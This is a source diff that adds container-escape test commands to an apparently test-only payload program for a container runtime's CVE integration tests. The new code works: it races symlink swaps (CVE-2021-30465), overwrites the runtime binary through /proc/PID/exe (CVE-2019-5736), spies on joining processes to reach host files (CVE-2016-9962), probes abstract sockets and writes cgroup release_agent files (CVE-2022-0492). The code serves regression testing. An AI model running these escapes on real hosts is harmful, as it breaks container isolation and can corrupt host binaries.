@@ -31,6 +31,7 @@
 #include <netinet/in.h>
 #include <sched.h>
 #include <signal.h>
+#include <stddef.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -42,6 +43,7 @@
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/types.h>
+#include <sys/un.h>
 #include <sys/utsname.h>
 #include <time.h>
 #include <unistd.h>
@@ -514,6 +516,386 @@ static int cmd_sleep(const char *arg)
 	return 0;
 }
 
+/* ---- attacks for tests/integration/runtime-cve.bats ---------------------------- */
+
+static double now_seconds(void)
+{
+	struct timespec ts;
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
+}
+
+/* `exchange-race DIR LINK...`: swaps DIR with each LINK (renameat2 RENAME_EXCHANGE),
+ * twice in a row so that DIR is a directory again before the next pair, forever
+ * (CVE-2021-30465). */
+static int cmd_exchange_race(int n, char **links, const char *dir)
+{
+	for (;;)
+		for (int i = 0; i < n; i++)
+			for (int k = 0; k < 2; k++)
+				if (syscall(SYS_renameat2, AT_FDCWD, dir, AT_FDCWD, links[i], 2 /* RENAME_EXCHANGE */) < 0 &&
+				    errno != ENOENT)
+					return fail("renameat2", links[i]);
+}
+
+/* The command line of PID, NULs turned into blanks; "" when it is gone. */
+static void read_cmdline(int pid, char *out, size_t len)
+{
+	char path[64];
+	ssize_t n;
+	int fd;
+	snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
+	out[0] = '\0';
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		return;
+	n = read(fd, out, len - 1);
+	close(fd);
+	if (n < 0)
+		n = 0;
+	out[n] = '\0';
+	for (ssize_t i = 0; i + 1 < n; i++)
+		if (out[i] == '\0')
+			out[i] = ' ';
+}
+
+static int is_pid_name(const char *s)
+{
+	if (!*s)
+		return 0;
+	for (; *s; s++)
+		if (*s < '0' || *s > '9')
+			return 0;
+	return 1;
+}
+
+/*
+ * `exe-attack FIFO SECONDS` (CVE-2019-5736): makes FIFO, then watches /proc for a
+ * process whose executable is not on the container's root filesystem (the runtime's
+ * binary, reached through a /proc/self/exe planted in the rootfs and blocked opening
+ * FIFO, e.g. /etc/ld.so.preload), keeps /proc/PID/exe open with O_PATH, releases the
+ * FIFO, and once the process is gone reopens the binary for writing and writes a
+ * marker at offset 0.
+ * Prints found=0|1, then write=ok or write=errno=NAME.
+ */
+static int cmd_exe_attack(const char *fifo, const char *secs)
+{
+	struct stat root, st;
+	double deadline = now_seconds() + strtod(secs, NULL);
+	int exefd = -1, pid = -1, rd = -1;
+	char path[64];
+	if (stat("/", &root) < 0)
+		return fail("stat", "/");
+	if (mkfifo(fifo, 0666) < 0 && errno != EEXIST)
+		return fail("mkfifo", fifo);
+	/* The newest pids of our pid namespace are polled in a tight loop (the runtime's
+	 * binary may run for less than a millisecond); /proc is listed now and then too. */
+	int lastfd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
+	for (unsigned long iter = 0; exefd < 0 && now_seconds() < deadline; iter++) {
+		int cand[64], ncand = 0;
+		char buf[32];
+		ssize_t n = lastfd >= 0 ? pread(lastfd, buf, sizeof buf - 1, 0) : -1;
+		if (n > 0) {
+			buf[n] = '\0';
+			for (int p = atoi(buf); p > 1 && ncand < 4; p--)
+				cand[ncand++] = p;
+		}
+		if (iter % 256 == 0) {
+			DIR *d = opendir("/proc");
+			struct dirent *de;
+			while (d && (de = readdir(d)) && ncand < 64)
+				if (is_pid_name(de->d_name))
+					cand[ncand++] = atoi(de->d_name);
+			if (d)
+				closedir(d);
+		}
+		for (int i = 0; i < ncand && exefd < 0; i++) {
+			if (cand[i] == getpid())
+				continue;
+			snprintf(path, sizeof path, "/proc/%d/exe", cand[i]);
+			int fd = open(path, O_PATH | O_CLOEXEC);
+			if (fd < 0)
+				continue;
+			if (fstat(fd, &st) == 0 && S_ISREG(st.st_mode) && st.st_dev != root.st_dev) {
+				exefd = fd;
+				pid = cand[i];
+			} else {
+				close(fd);
+			}
+		}
+	}
+	if (lastfd >= 0)
+		close(lastfd);
+	printf("found=%d\n", exefd >= 0);
+	fflush(stdout);
+	if (exefd < 0)
+		return 0;
+	/* Let the blocked process go on and exit: its binary is busy until then. A reader
+	 * blocked opening FIFO (the loader reading /etc/ld.so.preload) is released by a
+	 * writer that goes away at once, a blocked writer (a log file) by a reader. This is
+	 * repeated until it is gone: it may have been caught before it reached the FIFO. */
+	rd = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
+	snprintf(path, sizeof path, "/proc/%d", pid);
+	while (access(path, F_OK) == 0 && now_seconds() < deadline) {
+		char buf[4096];
+		int wr = open(fifo, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
+		if (wr >= 0)
+			close(wr);
+		if (rd >= 0)
+			while (read(rd, buf, sizeof buf) > 0)
+				;
+		usleep(1000);
+	}
+	snprintf(path, sizeof path, "/proc/self/fd/%d", exefd);
+	int wfd = -1, err = 0;
+	do {
+		wfd = open(path, O_WRONLY | O_CLOEXEC);
+		err = errno;
+		if (wfd < 0 && err == ETXTBSY)
+			usleep(1000);
+	} while (wfd < 0 && err == ETXTBSY && now_seconds() < deadline);
+	if (wfd >= 0) {
+		static const char marker[] = "HULL-CVE-2019-5736";
+		if (pwrite(wfd, marker, sizeof marker - 1, 0) == (ssize_t)(sizeof marker - 1))
+			printf("write=ok\n");
+		else
+			printf("write=errno=%s\n", errno_name(errno));
+		close(wfd);
+	} else {
+		printf("write=errno=%s\n", errno_name(err));
+	}
+	if (rd >= 0)
+		close(rd);
+	return 0;
+}
+
+/*
+ * `proc-spy NAME SECONDS HOSTFILE` (CVE-2016-9962): for SECONDS, watches /proc for
+ * processes whose command line contains NAME (the runtime's process joining the
+ * container). For each, tries to open /proc/PID/exe (refused when it is non-dumpable);
+ * when that works and the executable is still the runtime's (not on our root
+ * filesystem), reads its fd links and tries to append to HOSTFILE through
+ * /proc/PID/root and /proc/PID/cwd.
+ * Prints seen= (runtime processes seen), protected= (exe refused), caught= (exe of the
+ * runtime opened), escaped= (HOSTFILE written), and one `fd=N TARGET` line per fd >= 3
+ * of a caught process whose target is a path.
+ */
+static int cmd_proc_spy(const char *name, const char *secs, const char *hostfile)
+{
+	struct stat root, st;
+	double deadline = now_seconds() + strtod(secs, NULL);
+	int seen = 0, protected = 0, caught = 0, escaped = 0;
+	static int done[1 << 16], counted[1 << 16];
+	char cmdline[4096], path[PATH_MAX + 64];
+	if (stat("/", &root) < 0)
+		return fail("stat", "/");
+	while (now_seconds() < deadline) {
+		DIR *d = opendir("/proc");
+		struct dirent *de;
+		if (!d)
+			return fail("opendir", "/proc");
+		while ((de = readdir(d))) {
+			if (!is_pid_name(de->d_name))
+				continue;
+			int pid = atoi(de->d_name);
+			if (pid == getpid() || pid == 1 || pid >= (1 << 16) || done[pid])
+				continue;
+			read_cmdline(pid, cmdline, sizeof cmdline);
+			if (!strstr(cmdline, name)) {
+				done[pid] = 1; /* a container process, or already exec'd */
+				continue;
+			}
+			if (!counted[pid]) {
+				counted[pid] = 1;
+				seen++;
+			}
+			snprintf(path, sizeof path, "/proc/%d/exe", pid);
+			int fd = open(path, O_PATH | O_CLOEXEC);
+			if (fd < 0) {
+				if (errno == EACCES || errno == EPERM)
+					protected++;
+				continue;
+			}
+			int runtime = fstat(fd, &st) == 0 && st.st_dev != root.st_dev;
+			close(fd);
+			if (!runtime)
+				continue;
+			caught++;
+			done[pid] = 1;
+			snprintf(path, sizeof path, "/proc/%d/fd", pid);
+			DIR *fds = opendir(path);
+			struct dirent *fe;
+			while (fds && (fe = readdir(fds))) {
+				char target[PATH_MAX];
+				ssize_t n = readlinkat(dirfd(fds), fe->d_name, target, sizeof target - 1);
+				if (n <= 0 || !is_pid_name(fe->d_name) || atoi(fe->d_name) < 3)
+					continue;
+				target[n] = '\0';
+				if (target[0] == '/')
+					printf("fd=%s %s\n", fe->d_name, target);
+			}
+			if (fds)
+				closedir(fds);
+			static const char *const via[] = { "root", "cwd" };
+			for (size_t i = 0; i < 2; i++) {
+				snprintf(path, sizeof path, "/proc/%d/%s%s", pid, via[i], hostfile);
+				int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+				if (w < 0)
+					continue;
+				if (write(w, "escaped\n", 8) == 8)
+					escaped++;
+				close(w);
+			}
+		}
+		closedir(d);
+	}
+	printf("seen=%d\nprotected=%d\ncaught=%d\nescaped=%d\n", seen, protected, caught, escaped);
+	return 0;
+}
+
+/*
+ * `abstract-unix SUBSTR SECONDS`: for SECONDS, reads /proc/net/unix and tries to
+ * connect to every abstract socket whose name contains SUBSTR. Prints abstract=
+ * (distinct abstract names seen), matching=, connected=, and `name=@NAME` per match.
+ */
+static int cmd_abstract_unix(const char *substr, const char *secs)
+{
+	double deadline = now_seconds() + strtod(secs, NULL);
+	static char names[256][108];
+	int nnames = 0, matching = 0, connected = 0;
+	do {
+		char line[1024];
+		FILE *f = fopen("/proc/net/unix", "re");
+		if (!f)
+			return fail("open", "/proc/net/unix");
+		while (fgets(line, sizeof line, f)) {
+			/* Num RefCount Protocol Flags Type St Inode Path */
+			char sockpath[512] = "";
+			if (sscanf(line, "%*s %*s %*s %*s %*s %*s %*s %511s", sockpath) != 1 || sockpath[0] != '@')
+				continue;
+			int known = 0;
+			for (int i = 0; i < nnames && !known; i++)
+				known = strcmp(names[i], sockpath) == 0;
+			if (known || nnames == 256)
+				continue;
+			snprintf(names[nnames++], sizeof names[0], "%s", sockpath);
+			if (!strstr(sockpath + 1, substr))
+				continue;
+			matching++;
+			printf("name=%s\n", sockpath);
+			static const int types[] = { SOCK_STREAM, SOCK_SEQPACKET, SOCK_DGRAM };
+			for (size_t t = 0; t < 3; t++) {
+				struct sockaddr_un sa = { .sun_family = AF_UNIX };
+				size_t len = strlen(sockpath + 1);
+				if (len > sizeof sa.sun_path - 1)
+					len = sizeof sa.sun_path - 1;
+				memcpy(sa.sun_path + 1, sockpath + 1, len);
+				int s = socket(AF_UNIX, types[t] | SOCK_CLOEXEC, 0);
+				int r = connect(s, (struct sockaddr *)&sa,
+						(socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len));
+				close(s);
+				if (r == 0) {
+					connected++;
+					break;
+				}
+			}
+		}
+		fclose(f);
+		usleep(2000);
+	} while (now_seconds() < deadline);
+	printf("abstract=%d\nmatching=%d\nconnected=%d\n", nnames, matching, connected);
+	return 0;
+}
+
+/* Writes a cgroup v1 release_agent back with the value it already has, so that a
+ * write that the kernel should refuse changes nothing on the host if it is allowed. */
+static const char *rewrite_release_agent(const char *path)
+{
+	char cur[PATH_MAX + 2] = "";
+	ssize_t n;
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd >= 0) {
+		n = read(fd, cur, sizeof cur - 2);
+		cur[n > 0 ? n : 0] = '\0';
+		close(fd);
+	}
+	if (cur[0] == '\0' || cur[strlen(cur) - 1] != '\n')
+		strcat(cur, "\n");
+	fd = open(path, O_WRONLY | O_CLOEXEC);
+	if (fd < 0)
+		return errno_name(errno);
+	n = write(fd, cur, strlen(cur));
+	int e = errno;
+	close(fd);
+	return n < 0 ? errno_name(e) : "ok";
+}
+
+static int write_proc_file(const char *path, const char *text)
+{
+	int fd = open(path, O_WRONLY | O_CLOEXEC);
+	if (fd < 0)
+		return -1;
+	ssize_t n = write(fd, text, strlen(text));
+	close(fd);
+	return n < 0 ? -1 : 0;
+}
+
+/*
+ * `release-agent [userns]` (CVE-2022-0492): tries to write every release_agent under
+ * /sys/fs/cgroup, then to mount cgroup v1 hierarchies on a fresh /tmp directory and
+ * write their release_agent. With `userns`, first unshares user, mount and cgroup
+ * namespaces as `unshare -UrmC` does. Every write puts back the value already there.
+ * Prints `KEY=ok` or `KEY=errno=NAME` lines; release_agent writes are `agent-...=`.
+ */
+static int cmd_release_agent(int userns)
+{
+	char path[PATH_MAX];
+	if (userns) {
+		uid_t uid = getuid();
+		gid_t gid = getgid();
+		if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) {
+			printf("unshare=errno=%s\n", errno_name(errno));
+		} else {
+			char map[64];
+			printf("unshare=ok\n");
+			write_proc_file("/proc/self/setgroups", "deny");
+			snprintf(map, sizeof map, "0 %u 1", uid);
+			write_proc_file("/proc/self/uid_map", map);
+			snprintf(map, sizeof map, "0 %u 1", gid);
+			write_proc_file("/proc/self/gid_map", map);
+			mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
+		}
+	}
+	DIR *d = opendir("/sys/fs/cgroup");
+	struct dirent *de;
+	while (d && (de = readdir(d))) {
+		if (de->d_name[0] == '.')
+			continue;
+		snprintf(path, sizeof path, "/sys/fs/cgroup/%s/release_agent", de->d_name);
+		if (access(path, F_OK) == 0)
+			printf("agent-%s=%s\n", de->d_name, rewrite_release_agent(path));
+	}
+	if (d)
+		closedir(d);
+	static const char *const ctls[] = { "rdma", "memory", "pids", "cpu", "freezer", "devices", "none,name=hulltest" };
+	char dir[64];
+	snprintf(dir, sizeof dir, "/tmp/cg-%d", getpid());
+	mkdir(dir, 0700);
+	for (size_t i = 0; i < sizeof ctls / sizeof ctls[0]; i++) {
+		const char *key = strncmp(ctls[i], "none,name=", 10) == 0 ? "named" : ctls[i];
+		if (mount("cgroup", dir, "cgroup", MS_NOSUID | MS_NODEV | MS_NOEXEC, ctls[i]) < 0) {
+			printf("mount-%s=errno=%s\n", key, errno_name(errno));
+			continue;
+		}
+		printf("mount-%s=ok\n", key);
+		snprintf(path, sizeof path, "%s/release_agent", dir);
+		printf("agent-mounted-%s=%s\n", key, rewrite_release_agent(path));
+		umount2(dir, MNT_DETACH);
+	}
+	rmdir(dir);
+	return 0;
+}
+
 static void usage(FILE *out)
 {
 	fputs("usage: payload COMMAND [ARGS]\n"
@@ -523,7 +905,10 @@ static void usage(FILE *out)
 	      "  try unshare-user|unshare-net|mount-tmpfs|sethostname|mknod|chown|kill-1|\n"
 	      "      ptrace-traceme|setuid0|reboot-query|raw-socket|bind-80\n"
 	      "  stat PATH | write PATH TEXT | cat PATH | mounts | mountopts PATH | ns | tty\n"
-	      "  signal-wait SIG [READYFILE]\n",
+	      "  signal-wait SIG [READYFILE]\n"
+	      "  exchange-race DIR LINK... | exe-attack FIFO SECONDS\n"
+	      "  proc-spy NAME SECONDS HOSTFILE | abstract-unix SUBSTR SECONDS\n"
+	      "  release-agent [userns]\n",
 	      out);
 }
 
@@ -645,6 +1030,24 @@ int main(int argc, char **argv)
 		NEED(1);
 		return cmd_signal_wait(a1, nargs > 1 ? argv[3] : NULL);
 	}
+	if (strcmp(cmd, "exchange-race") == 0) {
+		NEED(2);
+		return cmd_exchange_race(nargs - 1, argv + 3, a1);
+	}
+	if (strcmp(cmd, "exe-attack") == 0) {
+		NEED(2);
+		return cmd_exe_attack(a1, argv[3]);
+	}
+	if (strcmp(cmd, "proc-spy") == 0) {
+		NEED(3);
+		return cmd_proc_spy(a1, argv[3], argv[4]);
+	}
+	if (strcmp(cmd, "abstract-unix") == 0) {
+		NEED(2);
+		return cmd_abstract_unix(a1, argv[3]);
+	}
+	if (strcmp(cmd, "release-agent") == 0)
+		return cmd_release_agent(nargs > 0 && strcmp(a1, "userns") == 0);
 	if (strcmp(cmd, "help") == 0 || strcmp(cmd, "--help") == 0) {
 		usage(stdout);
 		return 0;
